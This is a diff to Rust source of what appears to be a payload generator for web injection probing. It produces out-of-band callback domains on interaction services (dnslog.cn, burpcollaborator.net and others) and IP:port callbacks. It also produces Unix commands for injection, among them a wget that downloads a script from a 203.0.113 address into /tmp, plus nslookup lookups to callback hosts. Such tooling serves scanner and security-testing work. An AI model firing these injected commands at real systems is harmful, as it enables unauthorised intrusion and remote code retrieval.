@@ -49,16 +49,23 @@ pub(super) fn parts(target: impl Into<String>, parts: &[Part<'_>], rng: &mut Rng
     (sent(Wire::post(target, &kind, body), rng), Place::Multipart, Encoding::Plain)
 }
 
-/// A host that tells its owner who asked for it.
-pub(super) fn callback(rng: &mut Rng) -> String {
-    match rng.below(6) {
+/// A name that tells its owner who looked it up.
+pub(super) fn domain(rng: &mut Rng) -> String {
+    match rng.below(5) {
         0 => format!("{}.oast.fun", rng.word("abcdefghijklmnopqrstuvwxyz0123456789", 33)),
         1 => format!("{}.dnslog.cn", rng.letters(6)),
         2 => format!("{}.{}.ceye.io", rng.letters(4), rng.letters(6)),
         3 => format!("{}.burpcollaborator.net", rng.letters(30)),
-        4 => format!("{}.eyes.sh", rng.letters(5)),
-        _ => format!("203.0.113.{}:{}", rng.between(1, 254), rng.pick(&[80, 1389, 8000, 8888, 9999])),
+        _ => format!("{}.eyes.sh", rng.letters(5)),
     }
+}
+
+/// Such a name, or an address with a port.
+pub(super) fn callback(rng: &mut Rng) -> String {
+    if rng.chance(80) {
+        return domain(rng);
+    }
+    format!("203.0.113.{}:{}", rng.between(1, 254), rng.pick(&[80, 1389, 8000, 8888, 9999]))
 }
 
 /// What is run first on a Unix system: something that proves it, or something that calls.
@@ -73,11 +80,16 @@ pub(super) fn command(rng: &mut Rng) -> String {
         5 => format!("wget http://203.0.113.{}/{word}.sh -O /tmp/{word}", rng.below(255)),
         6 => format!("touch /tmp/{word}"),
         7 => format!("echo {word}|md5sum"),
-        8 => format!("nslookup {}", callback(rng)),
+        8 => format!("nslookup {}", domain(rng)),
         9 => "ifconfig".to_owned(),
         10 => format!("expr {} + {}", rng.digits(5), rng.digits(4)),
         _ => "uname -a".to_owned(),
     }
+}
+
+/// The same request, labelled as what carries its payload in base64.
+pub(super) fn in_base64((bytes, place, _): Shot) -> Shot {
+    (bytes, place, Encoding::Base64)
 }
 
 /// As programs escape a value in a target: what would end it or what servers refuse there, and no more.
